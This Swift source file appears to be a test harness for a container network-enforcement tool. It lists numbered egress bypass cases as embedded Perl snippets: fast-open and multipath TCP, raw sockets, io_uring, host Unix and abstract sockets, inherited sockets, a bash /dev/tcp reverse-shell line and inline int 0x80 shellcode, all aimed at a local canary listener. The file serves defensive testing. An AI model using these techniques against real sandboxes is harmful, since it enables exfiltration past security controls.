import ContainerHarness

/// N1 to N12: ways out.
struct NetworkBypasses {
    let code: ServiceCode

    var all: [Bypass] { [tcp, udp, raw, ring, unix, peers, passed].flatMap { $0 } + plain }

    private var plain: [Bypass] {
        PerlAttacks(code.service).all.filter { $0.dimension == .egress }.map { attack in
            let group =
                attack.name.contains("udp") ? "N3" : attack.name.hasSuffix("4") ? "N12" : "N6"
            return Bypass(group, attack)
        }
    }

    private var tcp: [Bypass] {
        [
            code.sends(
                "N1", "fast-open", "sendto with MSG_FASTOPEN",
                #"""
                socket(my $s, 2, 1, 0); my $to = in4($port);
                syscall(44, fileno($s), $token, length $token, 0x20000000, $to, 16) > 0 ? "sent" : "error $!"
                """#),
            code.sends(
                "N1", "fast-open-connect", "TCP_FASTOPEN_CONNECT",
                #"""
                socket(my $s, 2, 1, 0); setsockopt($s, 6, 30, 1); connect($s, in4($port)) or return "error $!";
                syswrite($s, $token); "sent"
                """#),
            code.sends(
                "N2", "mptcp", "multipath TCP",
                #"""
                socket(my $s, 2, 1, 262) or return "error socket $!"; connect($s, in4($port)) or return "error $!";
                syswrite($s, $token); "sent"
                """#),
            code.sends(
                "N2", "mptcp-fast-open", "multipath TCP with MSG_FASTOPEN",
                #"""
                socket(my $s, 2, 1, 262) or return "error socket $!"; my $to = in4($port);
                syscall(44, fileno($s), $token, length $token, 0x20000000, $to, 16) > 0 ? "sent" : "error $!"
                """#
            ).needing(
                RunningKernel.isAtLeast(6, 2),
                else: "multipath TCP has MSG_FASTOPEN since Linux 6.2"),
            code.sends(
                "N11", "reverse-shell", "bash with /dev/tcp", stoppedAs: .exec,
                #"captured("", sub { exec "/bin/bash", "-c", "echo $token >/dev/tcp/127.0.0.1/$port"; "error $!" })"#
            ),
            code.sends(
                "N11", "shell-on-socket", "a shell whose output is a connection, by dup2",
                #"""
                socket(my $s, 2, 1, 0); connect($s, in4($port)) or return "error $!";
                my $p = fork(); if (!$p) { syscall(33, fileno $s, 1); exec "/bin/sh", "-c", "echo $token"; }
                waitpid($p, 0); "sent"
                """#),
        ]
    }

    private var udp: [Bypass] {
        [
            code.sends(
                "N3", "sendmmsg", "sendmmsg to an address of its own",
                #"""
                socket(my $s, 2, 2, 0); my $to = in4($port);
                my $part = pack("QQ", address($token), length $token);
                my $message = pack("QLx4QQQQlx4Lx4", address($to), 16, address($part), 1, 0, 0, 0, 0);
                syscall(307, fileno($s), $message, 1, 0) == 1 ? "sent" : "error $!"
                """#)
        ]
    }

    private var raw: [Bypass] {
        [
            code.sends(
                "N4", "raw-ip", "a datagram made by hand through a raw socket",
                stoppedAs: .act,
                #"""
                socket(my $s, 2, 3, 17) or return "error $!";
                my $datagram = pack("nnnn", 40000, $port, 8 + length $token, 0) . $token;
                send($s, $datagram, 0, in4(0)) ? "sent" : "error $!"
                """#
            )
        ]
    }

    private var ring: [Bypass] {
        [("inline", 0), ("worker", 16)].map { name, flags in
            code.sends(
                "N7", "io-uring-connect-\(name)", "connect by io_uring, \(name)",
                PerlCalls.ring + #"""
                    socket(my $s, 2, 1, 0); my $to = in4($port);
                    my $r = submit(pack("CCSlQQLLQ", 16, \#(flags), 0, fileno($s), 16, address($to), 0, 0, 1));
                    syswrite($s, $token); "result $r"
                    """#)
        }
            + [("inline", 0), ("worker", 16)].map { name, flags in
                code.sends(
                    "N7", "io-uring-send-\(name)", "a datagram sent by io_uring, \(name)",
                    PerlCalls.ring + #"""
                        socket(my $s, 2, 2, 0); my $to = in4($port);
                        my $part = pack("QQ", address($token), length $token);
                        my $message = pack("QLx4QQQQlx4", address($to), 16, address($part), 1, 0, 0, 0);
                        my $r = submit(pack("CCSlQQLLQ",
                            9, \#(flags), 0, fileno $s, 0, address($message), 1, 0, 1));
                        "result $r"
                        """#)
            }
    }

    /// The listener is the host's, as a container runtime's socket is.
    private var unix: [Bypass] {
        let code = code
        return [
            Bypass(
                "N5",
                Attack("unix-socket", .file, "a socket of the host in the container's tree") {
                    target in
                    try target.reached(by: "/srv/host.sock") {
                        try code.run(
                            #"""
                            socket(my $s, 1, 1, 0); connect($s, pack("Sa*", 1, "/srv/host.sock")) or return "error $!";
                            syswrite($s, "\#($0)"); "sent"
                            """#, in: target)
                    }
                }
            ).withoutTwin("a socket that was bound outside of the container has no name in it"),
            Bypass(
                "N5",
                Attack("unix-datagram", .file, "a datagram to it, without a connect") { target in
                    try target.reached(by: "/srv/host.sock", type: 2) {
                        try code.run(
                            #"""
                            socket(my $s, 1, 2, 0); my $to = pack("Sa*", 1, "/srv/host.sock");
                            send($s, "\#($0)", 0, $to) ? "sent" : "error $!"
                            """#, in: target)
                    }
                }
            ).withoutTwin("a socket that was bound outside of the container has no name in it")
                .killedAfter(in: [.signal], Self.unconnected),
            Bypass(
                "N5",
                Attack("io-uring-unix", .file, "a socket of the host, connected by io_uring") {
                    target in
                    try target.reached(by: "/srv/host.sock") {
                        try code.run(
                            PerlCalls.ring + #"""
                                socket(my $s, 1, 1, 0); my $to = pack("Sa*", 1, "/srv/host.sock\0");
                                my $r = submit(pack("CCSlQQLLQ",
                                    16, 0, 0, fileno $s, length $to, address($to), 0, 0, 1));
                                syswrite($s, "\#($0)") or return "error $r $!"; "sent"
                                """#, in: target)
                    }
                }
            ).withoutTwin("a socket that was bound outside of the container has no name in it"),
            Bypass(
                "E15",
                Attack("compat-connect", .file, "a socket of the host, by int 0x80") { target in
                    try target.reached(by: "/srv/host.sock") {
                        try code.run(
                            #"""
                            socket(my $s, 1, 1, 0); my $page = map_memory(8192, 7, 0x22, -1, 0);
                            my ($to, $words) = ($page + 4096, $page + 5000);
                            poke($to, pack("Sa*", 1, "/srv/host.sock\0"));
                            poke($words, pack("LLL", fileno($s), $to, 110));
                            poke($page, "\x53\xb8\x66\0\0\0\xbb\x03\0\0\0\xb9" . pack("L", $words)
                                . "\xcd\x80\x5b\xc3");
                            DynaLoader::dl_install_xsub("main::go", $page); eval { go() };
                            syswrite($s, "\#($0)") or return "error $!"; "sent"
                            """#, in: target)
                    }
                }
            ).withoutTwin("a socket that was bound outside of the container has no name in it"),
        ] + abstract
    }

    private static let unconnected =
        "no hook of this mode is called before a datagram without a connect has arrived"

    /// As a runtime's shim listens in the host's network namespace.
    private var abstract: [Bypass] {
        let code = code
        func reaching(
            _ name: String, _ summary: String, _ type: Int, _ deed: String
        ) -> Bypass {
            Bypass(
                "N5",
                Attack(name, .act, summary) { target in
                    let place = "loadline-test-" + name
                    return try target.reached(byAbstract: place, type: type) { token in
                        try code.run(
                            #"""
                            socket(my $s, 1, \#(type), 0); my $to = pack("Sa*", 1, "\0\#(place)");
                            my $token = "\#(token)"; \#(deed)
                            """#, in: target)
                    }
                })
        }
        let connects = #"connect($s, $to) or return "error $!"; syswrite($s, $token); "sent""#
        return [
            reaching("abstract", "an abstract socket of a process outside", 1, connects),
            reaching("abstract-datagram", "the same, by datagrams", 2, connects),
            reaching(
                "abstract-unconnected", "the same, by a datagram without a connect", 2,
                #"send($s, $token, 0, $to) ? "sent" : "error $!""#
            ).killedAfter(in: [.signal], Self.unconnected),
        ]
    }

    /// The service may connect to one peer by TCP, see OrdinaryWork.
    private var peers: [Bypass] {
        let code = code
        return [
            code.sends(
                "N9", "other-port", "another port of an allowed peer",
                #"""
                socket(my $s, 2, 1, 0); connect($s, in4($port)) or return "error $!";
                syswrite($s, $token); "sent"
                """#),
            Bypass(
                "N9",
                Attack("other-protocol", .egress, "another protocol of an allowed peer") { target in
                    let listener = try EgressListener(
                        in: target.container, port: OrdinaryWork.peer)
                    defer { listener.stop() }
                    let reply = try code.run(
                        #"""
                        socket(my $s, 2, 2, 0); my $to = in4(\#(OrdinaryWork.peer));
                        send($s, "\#(Canary.token())", 0, $to) ? "sent" : "error $!"
                        """#, in: target)
                    let came = try listener.settledArrivals()
                    return came.isEmpty
                        ? .didNotHappen(evidence: "the listener got nothing; \(reply)")
                        : .happened(evidence: came.joined(separator: ", "))
                }),
        ]
    }

    /// A socket that the host has made is given to a program of the container at its start.
    private var passed: [Bypass] {
        let to = "my $to = pack(q(SnC4x8), 2, \(EgressListener.port), 127, 0, 0, 1); "
        let connects = "connect($s, $to) or die qq(error $!); "
        return [("unconnected", connects, ""), ("connected", "", connects)].map {
            name, inside, outside in
            let bypass = Bypass(
                "N10",
                Attack("passed-\(name)", .egress, "a socket that the host has made, \(name)") {
                    target in
                    let token = Canary.token()
                    let uses =
                        "open(my $s, '+<&=', 3) or die qq(error $!); \(to)\(inside)"
                        + "syswrite($s, '\(token)'); print 'sent'"
                    let result = try target.exec(
                        uses, givenWhat: "socket(my $s, 2, 1, 0); \(to)\(outside)")
                    // The host's own connection is none of the container's acts.
                    let came = try target.listener.settledArrivals().joined(separator: ", ")
                    guard came.contains(token) else {
                        return .didNotHappen(
                            evidence: "the listener got \(came); \(result.stdout + result.stderr)")
                    }
                    return result.stdout.contains("sent")
                        ? .happened(evidence: "the listener got the token")
                        : .happenedAndEnded(evidence: "the listener got the token")
                })
            return inside.isEmpty
                ? bypass.killedAfter(
                    in: [.signal],
                    "no hook of this mode is called before a connection is written to")
                : bypass
        }
    }
}
